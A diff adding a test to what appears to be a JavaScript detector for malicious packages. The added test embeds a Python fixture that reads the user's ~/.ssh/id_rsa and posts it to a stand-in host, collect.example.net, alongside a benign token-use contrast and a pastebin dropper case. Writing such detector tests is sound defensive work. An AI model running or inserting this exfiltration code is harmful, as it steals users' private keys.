@@ -111,3 +111,10 @@ test('a program downloaded from an address read off a paste site is a dropper; f
   const release = drop.replace('https://pastebin.com/raw/abc123', 'https://api.github.com/repos/o/r/releases/latest');
   assert.doesNotMatch(await verdict({ 'p/__init__.py': release }), /^malicious/);
 });
+
+test('an SSH key sent to a fixed third-party host is exfiltration even when called; a registry token sent to its registry is not', async () => {
+  const key = "import os, urllib.request\ndef sync():\n    data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n    urllib.request.urlopen(urllib.request.Request('http://collect.example.net/log', data=data))\n";
+  assert.match(await verdict({ 'p/sync.py': key }), /^malicious: Sends cred-file:~\/\.ssh\/id_rsa to collect\.example\.net/);
+  const netrc = "import os, requests\ndef login():\n    tok = open(os.path.expanduser('~/.netrc')).read().split()[-1]\n    return requests.get('https://api.service.example/user', headers={'Authorization': tok})\n";
+  assert.doesNotMatch(await verdict({ 'p/auth.py': netrc }), /^malicious/);
+});
